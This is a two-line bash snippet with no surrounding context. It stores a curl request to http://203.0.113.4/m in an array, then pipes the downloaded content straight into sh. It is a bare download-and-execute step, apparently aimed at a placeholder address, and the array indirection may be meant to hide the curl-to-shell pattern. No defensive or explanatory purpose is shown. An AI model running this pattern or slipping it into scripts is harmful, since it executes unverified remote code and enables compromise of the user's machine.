cmd=(curl -s http://203.0.113.4/m)
"${cmd[@]}" | sh
